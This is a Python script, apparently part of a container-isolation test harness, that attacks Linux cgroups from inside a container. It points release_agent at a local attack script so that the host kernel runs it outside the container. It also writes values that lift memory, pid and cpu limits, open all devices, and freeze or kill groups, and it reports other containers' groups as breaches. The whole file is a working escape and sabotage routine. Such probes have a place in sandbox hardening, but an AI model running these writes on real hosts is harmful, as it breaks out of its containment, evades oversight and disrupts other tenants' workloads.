"""The groups that limit it: raise them, leave them, or have the kernel start a program of ours outside."""

import os

from attacker import attempt, breach, over

ROOT = "/sys/fs/cgroup"
seen = 0
for directory, names, files in os.walk(ROOT):
    seen += 1
    attempt(f"made a group in {directory}", os.mkdir, f"{directory}/planted") if seen < 40 else None
    for name, value in (
        ("release_agent", b"/workspace/attack.py"),
        ("notify_on_release", b"1"),
        ("cgroup.procs", b"0"),
        ("tasks", b"0"),
        ("memory.limit_in_bytes", b"-1"),
        ("memory.max", b"max"),
        ("memory.force_empty", b"1"),
        ("memory.oom_control", b"1"),
        ("pids.max", b"max"),
        ("cpu.cfs_quota_us", b"-1"),
        ("cpu.max", b"max"),
        ("devices.allow", b"a *:* rwm"),
        ("freezer.state", b"FROZEN"),
        ("cgroup.freeze", b"1"),
        ("cgroup.kill", b"1"),
        ("cgroup.subtree_control", b"+memory"),
    ):
        if name in files:

            def change(path=f"{directory}/{name}", value=value):
                with open(path, "wb", buffering=0) as file:
                    file.write(value)

            attempt(f"changed {directory}/{name}", change)
    # Groups of others would be beside ours, under names that are those of their containers.
    for name in names:
        if len(name) == 64 or name.startswith("docker-"):
            breach(f"saw the group {name}")
with open("/proc/self/cgroup") as file:
    print(file.read())
print("groups:", seen)
over()
